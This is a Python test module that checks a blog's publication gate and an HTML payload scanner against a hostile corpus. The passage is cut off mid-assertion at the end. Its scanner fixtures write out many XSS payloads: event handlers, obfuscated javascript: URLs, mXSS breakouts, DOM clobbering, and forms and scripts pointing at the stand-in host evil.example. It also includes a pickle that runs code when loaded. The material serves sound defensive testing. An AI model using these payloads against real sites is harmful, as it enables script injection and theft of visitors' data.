"""The hostile corpus (tests/hostile/cases.yml) against the publication gate (issues 12, 13).

The corpus is written into one temporary repository (a git repository, so that "a committed
cache" means what it says), with a policy, a few authors, media and one clean post:

(a) ``advocacy check --format json`` runs once over it: every ``error`` case has an error
    finding in its file, of a rule in its families; every ``warning`` case at least a
    warning; no ``builds`` case is blocked; no traceback; exit code 0 or 1; no payload ran
    (a pickle or YAML tag that would create a ``PWNED-*`` file).
(b) ``mkdocs build --strict`` on the same repository fails, without a traceback, naming the
    files of the error cases.
(c) The ``builds`` cases, together in one site of their own, build; each page looks right
    (the picture after a code fence is a ``<picture>``, the sentence after it intact, ...)
    and holds no payload (tests/payload_scan.py).
(d) The scanner itself finds each class of payload in small hand-written files.

Cases marked ``isolate`` (alias bombs) are checked one by one with a time and memory limit.
tests/hostile/report.py checks and builds every case on its own and writes a report (slow;
for studying a change to the gate, not run by the suite).
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import re
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from bs4 import BeautifulSoup
from PIL import Image

from conftest import TODAY, FixtureSite
from payload_scan import (
    BrowserSession,
    find_payloads,
    run_pages_in_browser,
    srcset_urls,
    unsafe_scheme,
    url_host,
)

HOSTILE = Path(__file__).parent / "hostile"
MANIFEST = HOSTILE / "cases.yml"
CHECK_TIMEOUT = 180  # seconds for one check of the whole corpus
ISOLATED_TIMEOUT = 20  # seconds for one isolated case (an alias bomb is refused in far less)
ISOLATED_MEMORY = 1 << 30  # bytes of address space for one isolated case
# Text that must never be in the built site: the policy's term and keys, system files.
SECRETS = ("Projekt Fyrtårn", "root:x:0:", "PRETTY_NAME=", "confidential_terms", "hr_logins")
MARKER_PREFIX = "PWNED"
# Hints every corpus post gets (they share their text); left out of failure messages.
NOISE = frozenset({"authenticity-copied", "authenticity-voice"})


# -- the manifest ----------------------------------------------------------------------------


@dataclass
class Case:
    """One hostile file and what the gate must make of it."""

    id: str
    cls: str
    path: str
    expected: str  # error | warning | builds
    families: list[str]
    spec: dict[str, Any]
    report_in: list[str] = field(default_factory=list)
    support: list[dict[str, Any]] = field(default_factory=list)
    isolate: bool = False
    or_error: bool = False
    output: dict[str, str] = field(default_factory=dict)
    note: str = ""

    def accepts(self, rule: str) -> bool:
        """Whether a finding of ``rule`` counts for this case."""
        return any(f == "*" or rule.startswith(f) or rule == f.rstrip("-") for f in self.families)


def load_manifest(path: Path = MANIFEST) -> dict[str, Any]:
    """The parsed manifest (``site``, ``post_defaults``, ``camouflage``, ``cases``)."""
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def load_cases(manifest: dict[str, Any] | None = None) -> list[Case]:
    """Every case of the manifest, with defaults filled in."""
    manifest = manifest or load_manifest()
    out = []
    for raw in manifest["cases"]:
        out.append(
            Case(
                id=raw["id"],
                cls=raw["class"],
                path=raw["path"],
                expected=raw["expected"],
                families=list(raw.get("families") or ["*"]),
                spec=raw,
                report_in=list(raw.get("report_in") or [raw["path"]]),
                support=list(raw.get("support") or []),
                isolate=bool(raw.get("isolate")),
                or_error=bool(raw.get("or_error")),
                output=dict(raw.get("output") or {}),
                note=str(raw.get("note") or ""),
            )
        )
    return out


def _front_lines(text: str) -> list[tuple[str | None, str]]:
    """Raw front-matter text as (top-level key or None, the key's lines)."""
    blocks: list[tuple[str | None, str]] = []
    for line in text.splitlines(keepends=True):
        match = re.match(r"^([A-Za-z_<][\w<-]*)\s*:", line)
        if match or not blocks:
            blocks.append((match.group(1) if match else None, line))
        else:
            key, previous = blocks[-1]
            blocks[-1] = (key, previous + line)
    return blocks


def compose_post(spec: dict[str, Any], manifest: dict[str, Any]) -> str:
    """The text of a ``post:`` shorthand: the default front matter with ``front`` lines
    replacing the default lines of the same keys, then ``body`` (camouflaged on request)."""
    defaults = manifest["post_defaults"]
    override = _front_lines(spec.get("front", ""))
    keys = {key for key, _ in override}
    front = [text for key, text in _front_lines(defaults["front"]) if key not in keys]
    front += [text for _, text in override]
    body = spec.get("body", defaults["body"])
    if spec.get("camouflage"):
        camo = manifest["camouflage"]
        body = camo["before"] + "\n" + body + "\n" + camo["after"]
    joined = "".join(line if line.endswith("\n") else line + "\n" for line in front)
    return "---\n" + joined + "---\n\n" + body


def _deep_quotes(levels: int) -> str:
    return "> " * levels + "As deep as it goes.\n"


def _deep_list(levels: int) -> str:
    return "".join("    " * i + f"- level {i}\n" for i in range(levels))


class _Opener:
    """Unpickling this opens (creates) a file: proof that a pickle ran code."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return (open, (self.path, "w"))


def _image(path: Path, spec: dict[str, Any]) -> None:
    size = tuple(spec.get("size") or (800, 450))
    image = Image.new("RGB", size, spec.get("color", "teal"))
    exif = Image.Exif()
    if spec.get("gps"):
        gps = exif.get_ifd(0x8825)
        gps.update({1: "N", 2: (55.0, 40.0, 12.5), 3: "E", 4: (12.0, 34.0, 5.25)})
    image.save(path, spec.get("format", "JPEG"), exif=exif.tobytes())


def write_entry(root: Path, spec: dict[str, Any], manifest: dict[str, Any]) -> Path:
    """Write one file of the manifest (a case, a support file or a site file) below
    ``root``: text, a file from tests/hostile/files, a composed post, a symlink, an image,
    bytes or a pickle."""
    path = root / spec["path"]
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_symlink() or path.is_file():
        path.unlink()
    kind = spec.get("kind")
    if kind == "symlink":
        os.symlink(spec["target"], path)
    elif kind == "image":
        _image(path, spec)
    elif kind == "bytes":
        data = bytes.fromhex(spec["hex"]) if "hex" in spec else base64.b64decode(spec["b64"])
        path.write_bytes(data + b"\0" * int(spec.get("pad", 0)))
    elif kind == "pickle-open":
        path.write_bytes(pickle.dumps(_Opener(str(root / spec["creates"]))))
    elif "file" in spec:
        path.write_bytes((HOSTILE / spec["file"]).read_bytes())
    elif "post" in spec:
        path.write_bytes(compose_post(spec["post"], manifest).encode("utf-8"))
    elif "deep_quotes" in spec or "deep_list" in spec:
        body = (
            _deep_quotes(spec["deep_quotes"])
            if "deep_quotes" in spec
            else _deep_list(spec["deep_list"])
        )
        path.write_bytes(compose_post({"body": body}, manifest).encode("utf-8"))
    else:
        path.write_bytes(spec["text"].encode("utf-8", "surrogatepass"))
    return path


def case_text(case: Case, manifest: dict[str, Any]) -> str | None:
    """The text of a case's file as written (None for symlinks, images, bytes, pickles)."""
    spec = case.spec
    if spec.get("kind"):
        return None
    if "file" in spec:
        return (HOSTILE / spec["file"]).read_text("utf-8")
    if "post" in spec:
        return compose_post(spec["post"], manifest)
    if "deep_quotes" in spec or "deep_list" in spec:
        return None
    return spec["text"]


def make_site(
    root: Path, cases: Iterable[Case], manifest: dict[str, Any] | None = None, git: bool = True
) -> FixtureSite:
    """A repository with the manifest's site files, the ``cases`` and their support files
    (committed to git when ``git``)."""
    manifest = manifest or load_manifest()
    site = FixtureSite(root)
    for spec in manifest["site"]:
        write_entry(root, spec, manifest)
    for case in cases:
        write_entry(root, case.spec, manifest)
        for support in case.support:
            write_entry(root, support, manifest)
    if git:
        _git(root, "init", "-q")
        _git(root, "add", "-A")
        _git(root, "commit", "-q", "--no-verify", "-m", "hostile corpus")
    return site


def _git(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "Corpus",
        "GIT_AUTHOR_EMAIL": "corpus@example.com",
        "GIT_COMMITTER_NAME": "Corpus",
        "GIT_COMMITTER_EMAIL": "corpus@example.com",
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    return subprocess.run(
        ["git", *args], cwd=root, env=env, capture_output=True, text=True, check=True
    )


# -- running the check and the build ---------------------------------------------------------


@dataclass
class CheckRun:
    """One ``advocacy check --format json``: its exit code, output and parsed findings."""

    returncode: int | None
    stdout: str
    stderr: str
    seconds: float
    findings: list[dict[str, Any]] = field(default_factory=list)
    problem: str | None = None  # why the run itself is not acceptable

    def in_files(self, files: Iterable[str]) -> list[dict[str, Any]]:
        """The findings in any of ``files`` (a folder matches the files below it)."""
        wanted = [f.rstrip("/") for f in files]
        return [
            f
            for f in self.findings
            if any(
                str(f.get("file")) == w or str(f.get("file", "")).startswith(w + "/")
                for w in wanted
            )
        ]


def _limit_memory(limit: int) -> Any:
    def apply() -> None:  # pragma: no cover - runs in the child
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    return apply


def run_check(
    site: FixtureSite, *args: str, timeout: float = CHECK_TIMEOUT, memory: int | None = None
) -> CheckRun:
    """``advocacy check --format json ARGS`` in ``site``, with a time (and memory) limit."""
    env = _env(site)
    start = time.monotonic()
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "advocacy", "check", "--format", "json", *args],
            cwd=site.root,
            env=env,
            capture_output=True,
            text=True,
            check=False,
            timeout=timeout,
            preexec_fn=_limit_memory(memory) if memory else None,
        )
    except subprocess.TimeoutExpired as exc:
        out = exc.stdout.decode() if isinstance(exc.stdout, bytes) else (exc.stdout or "")
        err = exc.stderr.decode() if isinstance(exc.stderr, bytes) else (exc.stderr or "")
        return CheckRun(
            None,
            out,
            err,
            time.monotonic() - start,
            problem=f"did not finish within {timeout:.0f} s",
        )
    run = CheckRun(proc.returncode, proc.stdout, proc.stderr, time.monotonic() - start)
    if "Traceback" in proc.stdout + proc.stderr:
        tail = (proc.stderr or proc.stdout).strip().splitlines()[-1:]
        run.problem = f"printed a traceback ({' '.join(tail)[:200]})"
    elif proc.returncode not in (0, 1):
        run.problem = f"exit code {proc.returncode}: {(proc.stderr or proc.stdout)[-300:]}"
    try:
        data = json.loads(proc.stdout)
    except ValueError:
        data = None
    if isinstance(data, dict):
        run.findings = list(data.get("findings") or [])
    elif run.problem is None:
        run.problem = f"no JSON on stdout: {proc.stdout[:200]!r}"
    return run


def judge(case: Case, run: CheckRun) -> str | None:
    """Why ``run`` does not meet ``case``'s expectation, or None when it does."""
    mine = run.in_files(case.report_in)
    errors = [f for f in mine if f.get("severity") == "error"]
    if case.expected == "error":
        if any(case.accepts(str(f.get("rule"))) for f in errors):
            return None
        if errors:
            return "error, but of another rule: " + ", ".join(sorted({f["rule"] for f in errors}))
        warnings = sorted({str(f.get("rule")) for f in mine} - NOISE)
        return "no error" + (f" (warnings: {', '.join(warnings)})" if warnings else "")
    if case.expected == "warning":
        if any(case.accepts(str(f.get("rule"))) for f in mine):
            return None
        other = sorted({str(f.get("rule")) for f in mine} - NOISE)
        return "no finding" + (f" (other rules: {', '.join(other)})" if other else "")
    if errors and not case.or_error:
        return "blocked by " + ", ".join(sorted({str(f.get("rule")) for f in errors}))
    return None


def markers(root: Path) -> list[str]:
    """Files a payload created in the repository (``PWNED-*``): code ran. They are removed,
    so that the next run starts clean."""
    found = sorted(root.glob(MARKER_PREFIX + "*"))
    for path in found:
        path.unlink()
    return [p.name for p in found]


def _env(site: FixtureSite) -> dict[str, str]:
    """The environment of a check or build: today fixed, and the build cache beside the
    repository (never the user's own cache folder). A cache committed into the repository
    (``repo-cache-pickle``) must be refused wherever the real cache is."""
    env = {**os.environ, "ADVOCACY_TODAY": TODAY, "NO_MKDOCS_2_WARNING": "1"}
    cache_env = getattr(site, "cache_env", None)
    if cache_env is not None:
        env.update(cache_env())
    else:  # an older conftest: the cache in the repository's own .cache folder
        env.pop("ADVOCACY_CACHE_DIR", None)
    return env


def run_build(
    site: FixtureSite, out: Path, timeout: float = CHECK_TIMEOUT
) -> tuple[int | None, str]:
    """``mkdocs build --strict`` of ``site`` into ``out``: (exit code or None, log)."""
    env = _env(site)
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(out)],
            cwd=site.root,
            env=env,
            capture_output=True,
            text=True,
            check=False,
            timeout=timeout,
        )
    except subprocess.TimeoutExpired:
        return None, f"mkdocs build did not finish within {timeout:.0f} s"
    return proc.returncode, proc.stdout + proc.stderr


def table(rows: Iterable[tuple[str, ...]]) -> str:
    """Rows as a plain-text table for an assertion message."""
    rows = list(rows)
    if not rows:
        return ""
    widths = [max(len(r[i]) for r in rows) for i in range(len(rows[0]))]
    return "\n".join(
        "  ".join(c.ljust(w) for c, w in zip(r, widths, strict=True)).rstrip() for r in rows
    )


# -- fixtures: one corpus, one check, one build ---------------------------------------------

MANIFEST_DATA = load_manifest()
CASES = load_cases(MANIFEST_DATA)
CORPUS = [c for c in CASES if not c.isolate]
ISOLATED = [c for c in CASES if c.isolate]
BUILDS = [c for c in CASES if c.expected == "builds"]


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> FixtureSite:
    """Every case that is not isolated, in one git repository."""
    return make_site(tmp_path_factory.mktemp("hostile") / "repo", CORPUS, MANIFEST_DATA)


@pytest.fixture(scope="module")
def corpus_check(corpus: FixtureSite) -> CheckRun:
    """The one check of the whole corpus."""
    return run_check(corpus)


# -- the manifest itself ---------------------------------------------------------------------


def test_manifest_is_well_formed() -> None:
    """Unique ids and paths, known classes and expectations, files that exist."""
    classes = {
        "field-script",
        "raw-html",
        "markdown",
        "hidden-text",
        "front-matter",
        "build-damage",
        "repository",
    }
    ids = [c.id for c in CASES]
    paths = [c.path for c in CASES]
    assert len(set(ids)) == len(ids)
    assert len(set(paths)) == len(paths)
    assert len(CASES) >= 120
    for case in CASES:
        assert case.cls in classes, case.id
        assert case.expected in ("error", "warning", "builds"), case.id
        assert case.families, case.id
        assert re.fullmatch(r"[a-z0-9-]+", case.id), case.id
        if "file" in case.spec:
            assert (HOSTILE / case.spec["file"]).is_file(), case.id
        if case.expected == "builds":
            assert case.output, f"{case.id}: a builds case says what to look at"
        kinds = [
            k
            for k in ("text", "file", "post", "kind", "deep_quotes", "deep_list")
            if k in case.spec
        ]
        assert len(kinds) == 1, f"{case.id}: exactly one way to write the file ({kinds})"
    for cls in classes:
        assert sum(c.cls == cls for c in CASES) >= 10, cls


def test_compose_post_replaces_keys_and_keeps_the_rest() -> None:
    """The shorthand writes the default post with the case's lines in place of the same keys."""
    text = compose_post(
        {"front": "title: 'x'\nvideo:\n  src: a.mp4\n", "body": "Hi\n"}, MANIFEST_DATA
    )
    front = yaml.safe_load(text.split("---\n")[1])
    assert front["title"] == "x"
    assert front["video"] == {"src": "a.mp4"}
    assert front["authors"] == ["mette-hansen"]
    assert text.endswith("---\n\nHi\n")


# -- (a) the check ---------------------------------------------------------------------------


def test_check_reports_every_case(corpus: FixtureSite, corpus_check: CheckRun) -> None:
    """One check of the corpus: every error case has an error of its families in its file,
    every warning case a finding, no builds case is blocked; no traceback, exit 0 or 1."""
    run = corpus_check
    assert run.problem is None, f"advocacy check {run.problem}\n{run.stderr[-2000:]}"
    assert run.returncode == 1, "the corpus has errors: the check must exit 1"
    failures = [(c.id, c.expected, why) for c in CORPUS if (why := judge(c, run))]
    ran = markers(corpus.root)
    failures += [("(repository)", "nothing runs", f"{name} was created") for name in ran]
    assert not failures, (
        f"{len(failures)} of {len(CORPUS)} cases not reported as expected:\n"
        + table([("case", "expected", "got"), *failures])
    )


def test_check_reports_no_line_outside_the_file(corpus_check: CheckRun) -> None:
    """Findings name a file of the repository and a line within it (or none)."""
    assert corpus_check.problem is None, f"advocacy check {corpus_check.problem}"
    bad = [
        f
        for f in corpus_check.findings
        if not isinstance(f.get("file"), str)
        or str(f.get("file")).startswith(("/", ".."))
        or not (f.get("line") is None or (isinstance(f.get("line"), int) and f["line"] >= 1))
    ]
    assert not bad, bad[:10]


@pytest.mark.parametrize("case", ISOLATED, ids=[c.id for c in ISOLATED])
def test_isolated_case_is_refused_quickly(case: Case, tmp_path: Path) -> None:
    """An alias bomb is refused within seconds and 1 GB, with an error in its file."""
    site = make_site(tmp_path / "repo", [case], MANIFEST_DATA, git=False)
    run = run_check(site, timeout=ISOLATED_TIMEOUT, memory=ISOLATED_MEMORY)
    assert run.problem is None, f"advocacy check {run.problem}"
    why = judge(case, run)
    assert why is None, f"{case.id}: {why}"


def test_danish_file_name_is_checked_when_changed(tmp_path: Path) -> None:
    """A post named with a Danish letter is seen by ``--changed-since`` (issue 13 item 3)."""
    case = next(c for c in CASES if c.id == "repo-danish-file-name")
    site = make_site(tmp_path / "repo", [], MANIFEST_DATA)
    write_entry(site.root, case.spec, MANIFEST_DATA)
    _git(site.root, "add", "-A")
    _git(site.root, "commit", "-q", "--no-verify", "-m", "julefrokost")
    run = run_check(site, "--changed-since", "HEAD~1")
    assert run.problem is None, f"advocacy check {run.problem}"
    assert judge(case, run) is None, run.findings


# -- (b) the build of the corpus ---------------------------------------------------------------


def test_build_of_corpus_fails_naming_the_files(corpus: FixtureSite, tmp_path: Path) -> None:
    """``mkdocs build --strict`` refuses the corpus with a message, not a traceback, and names
    the file of every error case."""
    markers(corpus.root)
    for case in CORPUS:  # the check may have replaced a planted cache file with its own
        if case.spec.get("kind") == "pickle-open":
            write_entry(corpus.root, case.spec, MANIFEST_DATA)
    code, log = run_build(corpus, tmp_path / "site")
    assert code is not None, log
    assert code != 0, "the corpus built: nothing stopped the hostile files"
    assert "Traceback" not in log, log[-3000:]
    ran = markers(corpus.root)
    assert not ran, f"a payload ran during the build: {ran}"
    missing = [
        c.id
        for c in CORPUS
        if c.expected == "error" and not any(path in log for path in c.report_in)
    ]
    assert not missing, f"{len(missing)} error cases not named by the build: {missing}"


# -- (c) the cases that must build -----------------------------------------------------------


@dataclass
class BuildsSite:
    """The builds cases in one site: what was left out and why, and the build."""

    site: FixtureSite
    out: Path
    code: int | None
    log: str
    refused: dict[str, str]  # case id -> the check's errors, for cases left out


def build_builds_site(tmp: Path) -> BuildsSite:
    """Every ``builds`` case in one site; cases the check refuses are left out with their
    support files (fine when ``or_error``), then the site is built once."""
    site = make_site(tmp / "repo", BUILDS, MANIFEST_DATA, git=False)
    run = run_check(site)
    refused = {}
    for case in BUILDS:
        errors = [f for f in run.in_files(case.report_in) if f.get("severity") == "error"]
        if errors:
            refused[case.id] = ", ".join(sorted({str(f.get("rule")) for f in errors}))
            for path in [case.path, *(s["path"] for s in case.support)]:
                (site.root / path).unlink(missing_ok=True)
    if run.problem:
        refused["(check)"] = str(run.problem)
    code, log = run_build(site, tmp / "site")
    return BuildsSite(site, tmp / "site", code, log, refused)


@pytest.fixture(scope="module")
def builds_site(tmp_path_factory: pytest.TempPathFactory) -> BuildsSite:
    """The builds cases built together, once for the module."""
    return build_builds_site(tmp_path_factory.mktemp("builds"))


def _page(out: Path, case: Case) -> Path | None:
    if case.output.get("url"):
        page = out / case.output["url"] / "index.html"
        return page if page.is_file() else None
    slug = re.sub(r"^\d{4}-\d{2}-\d{2}-", "", Path(case.path).stem)
    found = sorted(out.glob(f"blog/*/*/*/{slug}/index.html"))
    return found[0] if found else None


def _text(node: Any) -> str:
    return " ".join(node.get_text(" ").split())


def check_output(case: Case, page: Path) -> list[str]:
    """What is wrong with a builds case's page, judged by parsing it."""
    soup = BeautifulSoup(page.read_text("utf-8"), "html.parser")
    article = soup.find("article", class_="adv-post") or soup
    problems = []
    want = case.output
    h1 = article.find("h1")
    if want.get("h1") and (h1 is None or _text(h1) != want["h1"]):
        problems.append(f"h1 is {_text(h1) if h1 else None!r}, not {want['h1']!r}")
    if (
        want.get("text")
        and want["text"] not in _text(article)
        and want["text"] not in " ".join(article.get_text().split())
    ):
        problems.append(f"the text {want['text']!r} is not on the page")
    if want.get("code"):
        codes = [c.get_text() for c in article.find_all("code")]
        if not any(want["code"] in c for c in codes):
            problems.append(f"no <code> holds {want['code']!r}")
    if want.get("picture_alt"):
        pictures = [
            p
            for p in article.find_all("picture")
            if p.find("img") and p.find("img").get("alt") == want["picture_alt"]
        ]
        if not pictures:
            problems.append(f"no <picture> with alt {want['picture_alt']!r}")
        for picture in pictures:
            img = picture.find("img")
            for url in [img.get("src", ""), *srcset_urls(img.get("srcset", ""))]:
                if unsafe_scheme(url) or url_host(url, "https://careers.example.com/x/") not in (
                    None,
                    "careers.example.com",
                ):
                    problems.append(f"the picture loads {url!r}")
        if "](" in _text(article) or "&lt;picture" in str(article):
            problems.append("Markdown or escaped markup of a picture shows as text")
    if want.get("linked_picture"):
        links = [
            a
            for a in article.find_all("a", href=want["linked_picture"])
            if a.find("picture") or a.find("img")
        ]
        if not links:
            problems.append(f"no link to {want['linked_picture']!r} around the picture")
    return problems


def test_builds_cases_build_and_look_right(builds_site: BuildsSite) -> None:
    """Every builds case is accepted by the check (or refused where ``or_error`` allows),
    the site builds, and each page shows what it should, without any payload."""
    result = builds_site
    assert result.code == 0 and "Traceback" not in result.log, result.log[-3000:]
    failures: list[tuple[str, str]] = []
    found = find_payloads(result.out, secrets=SECRETS)
    attributed: set[str] = set()
    for case in BUILDS:
        if case.id in result.refused:
            if not case.or_error:
                failures.append((case.id, f"refused by the check: {result.refused[case.id]}"))
            continue
        page = _page(result.out, case)
        if page is None:
            failures.append((case.id, "no page was built"))
            continue
        failures += [(case.id, p) for p in check_output(case, page)]
        rel = page.relative_to(result.out).as_posix()
        mine = [line for line in found if line.startswith(rel + ":")]
        attributed.update(mine)
        failures += [(case.id, line) for line in mine]
    # Listings, feeds and the search index repeat titles and texts: nothing may be there either.
    failures += [("(site)", line) for line in found if line not in attributed]
    assert not failures, table([("case", "problem"), *failures])


@pytest.mark.browser
def test_builds_cases_run_no_script(builds_site: BuildsSite) -> None:
    """The pages of the builds cases, in Chromium: no dialog, marker, flag or foreign request."""
    if builds_site.code != 0:
        pytest.fail(f"the builds site did not build:\n{builds_site.log[-2000:]}")
    pages = [_page(builds_site.out, c) for c in BUILDS]
    rels = [
        p.relative_to(builds_site.out).as_posix().removesuffix("index.html")
        for p in pages
        if p is not None
    ]
    with BrowserSession(settle_ms=150) as browser:
        events = browser.visit(builds_site.out, rels)
        # The search index is one file for the whole site: one search shows every entry.
        events += browser.visit(builds_site.out, [""], search=("PWNED", "onerror", "script"))
    assert not events, "\n".join(map(str, events))


# -- (d) the scanner, proven on small hand-written files --------------------------------------

OWN = "https://careers.example.com/"
PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>t</title>
<link rel="stylesheet" href="../assets/stylesheets/main.css">
<script type="application/ld+json">{"@context": "https://schema.org", "name": "x"}</script>
</head><body><header><form class="md-search__form" name="search"><input type="text"></form>
</header><span class="adv-avatar-frame" style="--size: 48px"></span>{body}
<script id="__config" type="application/json">{"base": "..", "search": "x.js"}</script>
<script>__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}</script>
<script src="../assets/javascripts/bundle.a5f9d56c.min.js"></script>
<script src="../assets/advocacy/advocacy.js"></script>
</body></html>"""  # noqa: E501 - Material's own inline script, as it writes it

SCANNER_CASES = [
    ("script", "<p>x</p><script>alert('PWNED')</script>", "inline script"),
    ("script-other-host", '<script src="https://evil.example/x.js"></script>', "another host"),
    ("script-own-name-elsewhere", '<script src="../media/advocacy.js"></script>', "outside assets"),
    (
        "ld-json-lt",
        '<script type="application/ld+json">{"name": "<b>x</b>"}</script>',
        "contains '<'",
    ),
    (
        "ld-json-breakout",
        '<script type="application/ld+json">{"name": "</script><b>"}</script>',
        "application/ld+json",
    ),
    (
        "ld-json-url",
        '<script type="application/ld+json">{"url": "javascript:alert(1)"}</script>',
        "javascript: URL",
    ),
    ("handler", "<img src=x onerror=alert(1)>", "event handler onerror"),
    ("handler-case", "<IMG SRC=x OnErRoR=alert(1)>", "event handler onerror"),
    ("handler-slashes", '<img/src="x"/onerror=alert(1)>', "event handler onerror"),
    ("style", '<p style="background:url(https://evil.example/t.png)">x</p>', "style attribute"),
    ("href-js", '<a href="javascript:alert(1)">x</a>', "javascript: URL"),
    ("href-js-entities", '<a href="&#106;avascript&#58;alert(1)">x</a>', "javascript: URL"),
    ("href-js-tab", '<a href="java&#x09;script:alert(1)">x</a>', "javascript: URL"),
    ("href-js-control", '<a href="&#x01; javascript:alert(1)">x</a>', "javascript: URL"),
    ("href-js-newline", '<a href="java\nscript:alert(1)">x</a>', "javascript: URL"),
    ("href-vbscript", '<a href="VBScript:msgbox(1)">x</a>', "vbscript: URL"),
    ("href-data", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URL"),
    ("formaction", '<button formaction="javascript:alert(1)">x</button>', "javascript: URL"),
    (
        "xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "javascript: URL",
    ),
    (
        "svg-set",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
        "animates a link target",
    ),
    ("img-other-host", '<img src="https://evil.example/p.png" alt="">', "another host"),
    ("img-protocol-relative", '<img src="//evil.example/p.png" alt="">', "another host"),
    ("img-backslash", '<img src="/\\evil.example/p.png" alt="">', "another host"),
    (
        "srcset-other-host",
        '<img src="a.jpg" srcset="a.jpg 1x, https://evil.example/b.png 2x">',
        "another host",
    ),
    ("poster-other-host", '<video poster="https://evil.example/p.jpg"></video>', "another host"),
    ("object-data", '<object data="https://evil.example/x.swf"></object>', "forbidden element"),
    ("iframe", '<iframe src="page.html"></iframe>', "forbidden element <iframe"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "srcdoc"),
    ("embed", '<embed src="x.swf">', "forbidden element <embed"),
    (
        "form",
        '<form action="https://evil.example/collect"><input name=cpr></form>',
        "forbidden element <form",
    ),
    (
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "<meta http-equiv>",
    ),
    ("base", '<base href="https://evil.example/">', "forbidden element <base"),
    (
        "link-stylesheet",
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "another host",
    ),
    ("style-element", "<style>@import url(https://evil.example/x.css);</style>", "<style>"),
    ("comment-abrupt", "<!--> <img src=x onerror=alert(1)> -->", "onerror"),
    ("comment-bang", "<!-- a --!> <img src=x onerror=alert(1)> -->", "onerror"),
    ("cdata-bogus", "<![CDATA[ ><img src=x onerror=alert(1)> ]]>", "onerror"),
    (
        "noscript-mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "onerror",
    ),
    (
        "textarea",
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
        "onerror",
    ),
    ("details", "<details open ontoggle=alert(1)><summary>x</summary></details>", "ontoggle"),
    (
        "id-clobber",
        '<p id="__config">{"search": "https://evil.example/w.js"}</p>',
        "DOM clobbering",
    ),
    ("unclosed-tag", "<p>Welcome <img src=x onerror=alert(1) x=</p>", "onerror"),
    (
        "ping",
        '<a href="https://example.org" ping="https://evil.example/t">x</a>',
        "ping='https://evil.example/t' loads from another host",
    ),
]


def _scan_page(tmp_path: Path, body: str, name: str = "x/index.html") -> list[str]:
    path = tmp_path / "site" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(PAGE.replace("{body}", body), encoding="utf-8")
    return find_payloads(tmp_path / "site")


def test_payload_scan_accepts_the_sites_own_markup(tmp_path: Path) -> None:
    """Material's scripts, search form and config, our scripts, JSON-LD, the avatar's style."""
    assert _scan_page(tmp_path, "<p>Hello <a href='https://example.org'>there</a></p>") == []


@pytest.mark.parametrize(
    ("name", "body", "expect"), SCANNER_CASES, ids=[c[0] for c in SCANNER_CASES]
)
def test_payload_scan_finds_known_payloads(
    tmp_path: Path, name: str, body: str, expect: str
) -> None:
    """Each class of payload, in a page that is otherwise the site's own markup."""
    found = _scan_page(tmp_path, body)
    assert any(expect in line for line in found), (name, found)
    assert all(line.startswith("x/index.html: ") for line in found), found


def test_payload_scan_reads_feeds_search_index_and_json_feed(tmp_path: Path) -> None:
    """HTML inside RSS and Atom, Material's search index and a JSON Feed is judged as HTML."""
    site = tmp_path / "site"
    (site / "search").mkdir(parents=True)
    (site / "blog").mkdir()
    (site / "search" / "search_index.json").write_text(
        '{"config": {}, "docs": [{"location": "a/", "title": "<img src=x onerror=alert(1)>",'
        ' "text": "ok"}, {"location": "javascript:alert(1)", "title": "t", "text": ""}]}',
        encoding="utf-8",
    )
    (site / "blog" / "feed_rss.xml").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        "<link>https://careers.example.com/</link><item><title>a</title>"
        "<description>&lt;script&gt;alert(1)&lt;/script&gt;</description>"
        '<enclosure url="https://evil.example/x.jpg" type="image/jpeg" length="1"/>'
        "</item></channel></rss>",
        encoding="utf-8",
    )
    (site / "blog" / "feed_atom.xml").write_text(
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        '<entry><title>a</title><content type="html"><![CDATA[<p style="color:red">x</p>]]>'
        '</content><link href="javascript:alert(1)"/></entry></feed>',
        encoding="utf-8",
    )
    (site / "blog" / "feed.json").write_text(
        '{"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": [{"id": "1",'
        ' "content_html": "<svg onload=alert(1)>", "image": "https://evil.example/i.png",'
        ' "url": "javascript:alert(1)"}]}',
        encoding="utf-8",
    )
    found = "\n".join(find_payloads(site))
    assert "search/search_index.json: search entry 'a/' title: event handler onerror" in found
    assert "search entry location uses a javascript: URL" in found
    assert "blog/feed_rss.xml: <description>: an inline script" in found
    assert "blog/feed_rss.xml: <enclosure> url loads from another host (evil.example)" in found
    assert "blog/feed_atom.xml: <content>: style attribute" in found
    assert "blog/feed_atom.xml: <link href='javascript:alert(1)'> uses a javascript: URL" in found
    assert "blog/feed.json: JSON content_html: event handler onload" in found
    assert (
